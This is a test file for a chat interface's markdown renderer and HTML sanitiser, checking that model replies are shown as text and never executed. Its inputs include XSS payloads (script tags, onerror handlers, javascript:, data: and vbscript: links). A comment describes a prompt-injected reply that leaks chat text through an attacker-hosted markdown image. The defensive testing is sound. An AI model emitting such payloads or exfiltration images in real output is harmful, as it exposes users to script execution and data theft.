// Markdown rendering and sanitising: what a model writes is shown, never executed.
import { describe, expect, it } from 'vitest'
import { renderMarkdown, sanitizeHtml } from '../src/lib/markdown.js'

function dom(html) {
  const root = document.createElement('div')
  root.innerHTML = html
  return root
}

describe('renderMarkdown', () => {
  it('makes code blocks and tables focusable, so a keyboard can scroll them sideways', () => {
    const root = dom(renderMarkdown('```js\nconst x = 1\n```\n\n| a | b |\n|---|---|\n| 1 | 2 |'))
    expect(root.querySelector('pre').getAttribute('tabindex')).toBe('0')
    expect(root.querySelector('pre').getAttribute('aria-label')).toBe('js code')
    expect(root.querySelector('.table-wrap').getAttribute('tabindex')).toBe('0')
  })

  it('renders headings, lists and emphasis', () => {
    const root = dom(renderMarkdown('# Title\n\n- one\n- **two**\n\n1. first'))
    expect(root.querySelector('h1').textContent).toBe('Title')
    expect(root.querySelectorAll('ul > li')).toHaveLength(2)
    expect(root.querySelector('li strong').textContent).toBe('two')
    expect(root.querySelector('ol > li').textContent).toBe('first')
  })

  it('renders tables inside a scroll wrapper', () => {
    const root = dom(renderMarkdown('| a | b |\n|---|---|\n| 1 | 2 |'))
    const table = root.querySelector('.table-wrap > table')
    expect(table).not.toBeNull()
    expect([...table.querySelectorAll('th')].map((th) => th.textContent)).toEqual(['a', 'b'])
    expect([...table.querySelectorAll('td')].map((td) => td.textContent)).toEqual(['1', '2'])
  })

  it('highlights fenced code and adds a copy button', () => {
    const root = dom(renderMarkdown('```python\ndef add(a, b):\n    return a + b\n```'))
    const code = root.querySelector('.code-block pre code')
    expect(code.className).toContain('language-python')
    expect(code.querySelector('.hljs-keyword').textContent).toBe('def')
    expect(code.textContent).toBe('def add(a, b):\n    return a + b\n')
    expect(root.querySelector('.code-block button.copy-code')).not.toBeNull()
    expect(root.querySelector('.code-lang').textContent).toBe('python')
  })

  it('keeps code of an unknown language as escaped text', () => {
    const root = dom(renderMarkdown('```nosuchlang\n<b>x</b>\n```'))
    expect(root.querySelector('code b')).toBeNull()
    expect(root.querySelector('code').textContent).toBe('<b>x</b>\n')
  })

  it('turns bare URLs into links that open in a new tab', () => {
    const link = dom(renderMarkdown('see https://example.com/docs')).querySelector('a')
    expect(link.getAttribute('href')).toBe('https://example.com/docs')
    expect(link.getAttribute('target')).toBe('_blank')
    expect(link.getAttribute('rel')).toContain('noopener')
  })

  it('shows raw HTML from the model as text, never as elements', () => {
    const source = '<script>window.__xss = 1</script>\n\n<img src=x onerror="window.__xss=1">'
    const root = dom(renderMarkdown(source))
    expect(root.querySelector('script')).toBeNull()
    expect(root.querySelector('img')).toBeNull()
    expect(root.textContent).toContain('<script>window.__xss = 1</script>')
  })

  it('drops javascript: links but keeps their text', () => {
    const root = dom(renderMarkdown('[click me](javascript:alert(1)) and [ok](https://example.com)'))
    const hrefs = [...root.querySelectorAll('a')].map((a) => a.getAttribute('href'))
    expect(hrefs).toEqual(['https://example.com'])
    expect(root.textContent).toContain('click me')
    // The literal text may stay visible; no attribute anywhere may carry the URL.
    for (const el of root.querySelectorAll('*')) {
      for (const attr of el.attributes) expect(attr.value.toLowerCase()).not.toContain('javascript:')
    }
  })

  it('strips an onerror handler from a markdown image', () => {
    const root = dom(renderMarkdown('![x](https://example.com/a.png "t" onerror=alert(1))'))
    for (const el of root.querySelectorAll('*')) {
      expect([...el.attributes].some((a) => a.name.startsWith('on'))).toBe(false)
    }
  })
})

describe('images in replies', () => {
  // A prompt-injected reply could carry ![](https://attacker/?q=<chat text>): the browser would fetch it
  // the moment it renders. Images are shown as plain links instead, so nothing loads without a click.
  it('renders a markdown image as a link, never an <img> that loads by itself', () => {
    const root = dom(renderMarkdown('![a chart](https://example.com/t.png?q=secret)'))
    expect(root.querySelector('img')).toBeNull()
    const link = root.querySelector('a')
    expect(link.getAttribute('href')).toBe('https://example.com/t.png?q=secret')
    expect(link.textContent).toContain('a chart')
  })

  it('drops <img> even when it reaches the sanitiser directly', () => {
    expect(dom(sanitizeHtml('<p>x<img src="https://example.com/t.png"></p>')).querySelector('img')).toBeNull()
  })
})

describe('sanitizeHtml (the DOMPurify layer)', () => {
  it('removes script tags, event handlers and javascript: URLs', () => {
    const dirty =
      '<p onclick="x()">hi</p><script>alert(1)</script><img src="x" onerror="alert(1)">' +
      '<a href="javascript:alert(1)">a</a><a href=" JaVaScRiPt:alert(1)">b</a><iframe src="https://e.com"></iframe>'
    const root = dom(sanitizeHtml(dirty))
    expect(root.querySelector('script, iframe')).toBeNull()
    expect(root.querySelector('p').hasAttribute('onclick')).toBe(false)
    expect(root.querySelector('img')).toBeNull() // images never survive, so neither can their handlers
    for (const a of root.querySelectorAll('a')) expect(a.hasAttribute('href')).toBe(false)
  })

  it('removes data: and vbscript: links', () => {
    const root = dom(sanitizeHtml('<a href="data:text/html,<script>alert(1)</script>">d</a><a href="vbscript:x">v</a>'))
    for (const a of root.querySelectorAll('a')) expect(a.hasAttribute('href')).toBe(false)
  })
})
